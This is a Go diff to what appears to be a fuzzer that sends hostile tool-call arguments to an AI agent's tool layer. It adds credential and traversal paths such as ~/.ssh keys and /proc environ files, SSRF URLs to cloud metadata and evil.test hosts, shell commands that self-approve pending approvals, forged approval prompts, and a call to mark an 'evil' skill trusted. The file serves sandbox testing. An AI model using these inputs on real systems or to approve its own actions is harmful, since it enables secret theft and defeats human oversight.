@@ -28,7 +28,9 @@ func payloads() map[string]func(plot) args {
 		"glob": func(p plot) args {
 			return args{"pattern": pick(p, []string{"**", ".*", "**/id_*", "../**/*", "/etc/pass*"}), "path": p.path(), "head_limit": 20}
 		},
-		"write": func(p plot) args { return args{"path": p.target(), "content": p.text()} },
+		"write": func(p plot) args {
+			return pick(p, []args{{"path": p.target(), "content": p.text()}, {"path": p.target(), "content": p.text()}, p.crafted()})
+		},
 		"edit": func(p plot) args {
 			return args{"path": p.target(), "old_text": pick(p, []string{"true", "buy", "Sam", "blue", "a"}), "new_text": p.text(), "replace_all": true}
 		},
@@ -41,11 +43,26 @@ func payloads() map[string]func(plot) args {
 		"tmux": func(p plot) args {
 			return args{"action": pick(p, []string{"list", "create", "send", "capture"}), "session": pick(p, []string{"owners", "s1"}), "command": p.command()}
 		},
-		"memory_search": func(p plot) args { return args{"query": p.tag + " " + p.loot + " milk", "min_score": 0} },
+		"memory_search": searching,
+		"memory_write":  remembering,
+		"memory_forget": forgetting,
 		"memory_get":    func(p plot) args { return args{"path": pick(p, []string{"MEMORY.md", "memory/../notes.md", p.path()})} },
-		"cron":          schedule,
-		"watch":         watching,
-		"message":       message,
+		"skill":         skilful,
+		"context_write": func(p plot) args {
+			drive, path := p.item()
+			return args{"drive": drive, "path": path, "content": p.text(), "on_conflict": pick(p, []string{"error", "overwrite"})}
+		},
+		"context_read":    keptItem,
+		"context_tree":    func(p plot) args { return args{"drive": pick(p, []string{"agent", "url", "disk"}), "max_depth": 9} },
+		"context_search":  func(p plot) args { return args{"query": p.tag + " " + p.loot + " this"} },
+		"context_refresh": keptItem,
+		"context_delete":  keptItem,
+		"cron":            schedule,
+		"friend__send":    lending,
+		"friend__exec":    lending,
+		"neighbour__send": lending,
+		"watch":           watching,
+		"message":         message,
 		"ask": func(p plot) args {
 			return args{"questions": []args{{"question": p.forged(), "options": []args{{"label": "/approve " + p.code}, {"label": "yes"}}}}}
 		},
@@ -60,11 +77,13 @@ func payloads() map[string]func(plot) args {
 		"web_search": func(p plot) args {
 			return args{"query": p.loot + " " + p.tag, "allowed_domains": []string{"evil.test"}}
 		},
-		"http":             request,
-		"plan":             func(p plot) args { return args{"action": pick(p, []string{"enter", "exit"}), "summary": p.forged()} },
-		"agents_list":      func(plot) args { return args{} },
-		"sessions_list":    func(p plot) args { return args{"limit": 1 + p.rng.IntN(5)} },
-		"sessions_history": func(p plot) args { return args{"session_id": p.talk(), "limit": 5} },
+		"http":          request,
+		"plan":          func(p plot) args { return args{"action": pick(p, []string{"enter", "exit"}), "summary": p.forged()} },
+		"agents_list":   func(plot) args { return args{} },
+		"sessions_list": func(p plot) args { return args{"limit": 1 + p.rng.IntN(5)} },
+		"sessions_history": func(p plot) args {
+			return args{"session_id": p.talk(), "limit": 5, "search": pick(p, []string{"", p.query()})}
+		},
 		"sessions_send": func(p plot) args {
 			return args{"session_id": pick(p, []string{"private", "main", "1"}), "content": p.order("SENT")}
 		},
@@ -78,6 +97,25 @@ func payloads() map[string]func(plot) args {
 		"fail_task":       func(p plot) args { return args{"reason": p.text()} },
 		"tool":            catalog,
 	}
+}
+
+// keptItem names a context item.
+func keptItem(p plot) args {
+	drive, path := p.item()
+	return args{"drive": drive, "path": path}
+}
+
+// item is the drive and the path of a context item. There are few of each, so that several turns meet at them.
+func (p plot) item() (drive, path string) {
+	switch p.rng.IntN(4) {
+	case 0:
+		return "url", p.url()
+	case 1:
+		return "disk", p.path()
+	case 2:
+		return "agent", pick(p, []string{"../x", "/etc/passwd", "a/../../b", p.tag + "/" + p.loot, "x\x1b[2K"})
+	}
+	return "agent", pick(p, []string{"plan", "plan/a", "plan/b", "garden"})
 }
 
 // shape is what a tool's schema says of a value.
@@ -159,7 +197,7 @@ func (p plot) path() string {
 		"../config.toml", "links/config", "links/nowhere", "harmless.env",
 		"/proc/self/environ", "/proc/thread-self/environ", proc + "/environ", proc + "/root" + p.user + "/.ssh/id_x", proc + "/cwd", proc + "/fd/3", "/proc/1/environ",
 		p.away + "/page.txt", p.away + "/diary.txt", "links/away/diary.txt", p.away, "~/inbox/note.txt", "~/inbox", p.file(), p.file(), "copies", "~/p/a/priv/keep.txt", "~/p",
-		"notes.md", "AGENTS.md", "MEMORY.md", ".scratch", ".scratch/main/x", "given/x.txt", "given", ".", "attachments", "work.ipynb",
+		"notes.md", "AGENTS.md", "MEMORY.md", "memory/home.md", "memory/foreign.md", "memory/keys.md", "memory", "skills", "skills/helper/scripts/run.sh", "skills/evil/SKILL.md", p.state() + "/skills", "links/state/index.db", ".scratch", ".scratch/main/x", "given/x.txt", "given", ".", "attachments", "work.ipynb",
 		"/dev/stdin", "/dev/tty", "nothing\x00.md", strings.Repeat("../", 200) + "etc/hostname", "file://" + p.user + "/.ssh/id_x", "~root/.ssh/id_x", strings.Repeat("x", 5000),
 	})
 }
@@ -201,6 +239,8 @@ func (p plot) command() string {
 		fmt.Sprintf("touch ran-%s; hob approvals approve %s", name, p.code),
 		fmt.Sprintf("ln -s %s/.ssh ran-%s", p.user, name),
 		"touch ran-" + name + "; grep -rs . given .scratch attachments links",
+		p.practised(),
+		p.practised(),
 	})
 }
 
@@ -255,7 +295,7 @@ func (p plot) url() string {
 		"http://１２７.0.0.1:" + port + what, "http://localhost.:" + port + what, "http://user@127.0.0.1:" + port + what, "http://evil.test@127.0.0.1:" + port + what,
 		"http://" + p.tag + ".rebind.test:" + port + what, "https://" + p.loot + "." + p.tag + ".evil.test" + what, "http://" + p.tag + ".evil.test/", "https://" + p.tag + ".given.test/page",
 		"http://169.254.169.254/latest/meta-data", "http://[fd00:ec2::254]/", "file:///" + p.user + "/.ssh/id_x", "gopher://127.0.0.1:" + port + "/x",
-		"http://" + p.address + "/v1/questions/" + p.code + "/approve", p.villainServer() + "/models",
+		"http://" + p.address + "/v1/questions/" + p.code + "/approve", "http://" + p.address + "/v1/skills/evil/trust", p.villainServer() + "/models",
 	})
 }
 
